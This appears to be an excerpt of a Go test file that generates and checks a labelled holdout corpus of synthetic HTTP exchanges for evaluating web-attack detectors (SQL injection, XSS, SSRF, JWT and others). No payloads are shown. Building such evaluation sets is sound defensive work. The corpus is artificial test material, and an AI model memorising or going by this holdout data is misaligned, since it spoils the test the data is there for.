	for n, c := range all {
		u, err := url.Parse(c.url)
		if err != nil {
			panic(fmt.Sprintf("holdout: case %d: %v", n, err))
		}
		attack := len(c.labels) > 0
		reqH := http.Header{}
		for i := 0; i+1 < len(c.hdr); i += 2 {
			reqH.Add(c.hdr[i], c.hdr[i+1])
		}
		if !holdHas(c.hdr, "User-Agent") {
			if attack {
				reqH.Set("User-Agent", holdPick(holdAttackUserAgents, n*7))
			} else {
				reqH.Set("User-Agent", holdPick(holdUserAgents, n*5+n/7))
			}
		}
		if !holdHas(c.hdr, "Accept") {
			reqH.Set("Accept", holdPick([]string{"application/json", "application/json, text/plain, */*", "*/*"}, n))
		}
		var client string
		if n%2 == 0 {
			client = fmt.Sprintf("203.0.113.%d:%d", 2+(n*37)%250, 40000+(n*7919)%25000)
		} else {
			client = fmt.Sprintf("198.51.100.%d:%d", 2+(n*53)%250, 40000+(n*6271)%25000)
		}
		proto := holdPick([]string{"HTTP/1.1", "HTTP/2.0", "HTTP/1.1"}, n)
		reqSize := int64(len(c.body))
		if c.reqSize > 0 {
			reqSize = c.reqSize
		}
		respH := http.Header{}
		for i := 0; i+1 < len(c.rhdr); i += 2 {
			respH.Add(c.rhdr[i], c.rhdr[i+1])
		}
		if !holdHas(c.rhdr, "Content-Type") && c.rbody != "" {
			switch {
			case strings.HasPrefix(c.rbody, "{") || strings.HasPrefix(c.rbody, "["):
				respH.Set("Content-Type", "application/json; charset=utf-8")
			case strings.HasPrefix(c.rbody, "%PDF"):
				respH.Set("Content-Type", "application/pdf")
			default:
				respH.Set("Content-Type", "text/plain; charset=utf-8")
			}
		}
		respH.Set("X-Request-Id", holdHexOf(fmt.Sprint("rid", n), 16))
		if n%3 == 0 {
			respH.Set("Server", holdPick([]string{"nginx", "envoy", "cloudflare", "Kestrel"}, n/3))
		}
		respSize := int64(len(c.rbody))
		if c.rsize > 0 {
			respSize = c.rsize
		}
		x := vigil.Exchange{
			ID:     fmt.Sprintf("h%05d", n+1),
			Time:   base.Add(time.Duration(n) * 2300 * time.Millisecond),
			Sensor: vigil.SensorJSONL,
			Client: vigil.Client{Addr: client},
			Request: vigil.Request{
				Method: c.method, URL: u, Proto: proto, Header: reqH,
				Body: []byte(c.body), BodySize: reqSize, Truncated: reqSize > int64(len(c.body)),
			},
			Response: &vigil.Response{
				Status: c.status, Proto: proto, Header: respH,
				Body: []byte(c.rbody), BodySize: respSize, Truncated: respSize > int64(len(c.rbody)),
			},
			Duration: time.Duration(8+(n*31)%400) * time.Millisecond,
		}
		xs = append(xs, x)
		l := c.labels
		if l == nil {
			l = []string{}
		}
		labels = append(labels, l)
	}
	return xs, labels
}

func holdEncode() (traffic, labels []byte, err error) {
	xs, ls := holdCorpus()
	var tb, lb bytes.Buffer
	for i, x := range xs {
		line, err := json.Marshal(x)
		if err != nil {
			return nil, nil, fmt.Errorf("%s: %w", x.ID, err)
		}
		tb.Write(line)
		tb.WriteByte('\n')
		line, err = json.Marshal(struct {
			ID        string   `json:"id"`
			Detectors []string `json:"detectors"`
		}{x.ID, ls[i]})
		if err != nil {
			return nil, nil, err
		}
		lb.Write(line)
		lb.WriteByte('\n')
	}
	return tb.Bytes(), lb.Bytes(), nil
}

func TestHoldoutGenerate(t *testing.T) {
	traffic, labels, err := holdEncode()
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join("testdata", "holdout")

	// Every line must read back as an exchange of the traffic format, and
	// the ids of both files must match line by line.
	tl := strings.Split(strings.TrimSuffix(string(traffic), "\n"), "\n")
	ll := strings.Split(strings.TrimSuffix(string(labels), "\n"), "\n")
	if len(tl) != len(ll) {
		t.Fatalf("%d exchanges but %d label lines", len(tl), len(ll))
	}
	counts := map[string]int{}
	benign := 0
	for i := range tl {
		var x vigil.Exchange
		if err := json.Unmarshal([]byte(tl[i]), &x); err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		var l struct {
			ID        string   `json:"id"`
			Detectors []string `json:"detectors"`
		}
		if err := json.Unmarshal([]byte(ll[i]), &l); err != nil {
			t.Fatalf("label line %d: %v", i+1, err)
		}
		if l.ID != x.ID {
			t.Fatalf("line %d: exchange %q but label %q", i+1, x.ID, l.ID)
		}
		if len(l.Detectors) == 0 {
			benign++
		}
		for _, d := range l.Detectors {
			counts[d]++
		}
	}
	for _, d := range []string{holdSQLi, holdXSS, holdOther, holdSSRF, holdJWTDet, holdVerbose, holdSensitive, holdLimits} {
		if counts[d] < 60 {
			t.Errorf("%s: %d attack exchanges, want at least 60", d, counts[d])
		}
	}
	if benign < 1200 {
		t.Errorf("%d benign exchanges, want at least 1200", benign)
	}
	t.Logf("holdout: %d exchanges, %d benign, attacks %v", len(tl), benign, counts)

	writeOrCheckCorpus(t, dir, *updateHoldout, "go test ./detect/ -run TestHoldoutGenerate -update-holdout", traffic, labels)
}
